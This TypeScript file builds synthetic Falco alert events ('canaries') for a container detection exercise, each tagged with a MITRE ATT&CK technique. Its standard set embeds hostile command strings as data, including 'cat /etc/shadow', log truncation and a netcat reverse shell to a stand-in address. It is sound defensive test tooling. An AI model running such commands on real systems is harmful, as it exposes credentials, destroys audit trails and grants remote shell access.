/** A synthetic event: what a sensor would send if somebody used the technique. */
export interface Canary {
  name: string;
  /** MITRE ATT&CK technique that a detection of it must name. */
  technique: string;
  /** The message as it is sent, for the instant (RFC 3339) at which it is. */
  message(at: string): string;
}

/** Falco's JSON output (falco.org/docs/concepts/outputs) of one of its stable rules, with the tags that the rule carries. */
function falco(rule: string, technique: string, priority: string, process: string): Canary {
  return {
    name: rule,
    technique,
    message: (time) =>
      JSON.stringify({
        hostname: 'cnapp-exercise',
        output: `${rule} (detection exercise, proc=${process})`,
        output_fields: {
          'container.id': 'c0ffee00c0de',
          'container.image.repository': 'example.com/cnapp-exercise/canary',
          'k8s.ns.name': 'cnapp-exercise',
          'k8s.pod.name': 'canary',
          'proc.cmdline': process,
          'user.name': 'root',
        },
        priority,
        rule,
        source: 'syscall',
        tags: ['container', technique],
        time,
      }),
  };
}

/** What is played where no set is given. */
export const STANDARD_SET: readonly Canary[] = [
  falco('Terminal shell in container', 'T1059', 'Notice', 'bash'),
  falco('Read sensitive file untrusted', 'T1555', 'Warning', 'cat /etc/shadow'),
  falco('Contact K8S API Server From Container', 'T1565', 'Notice', 'curl https://kubernetes.default'),
  falco('Clear Log Activities', 'T1070', 'Warning', 'truncate /var/log/syslog'),
  falco('Netcat Remote Code Execution in Container', 'T1059', 'Warning', 'nc -e /bin/sh 192.0.2.1 4444'),
];
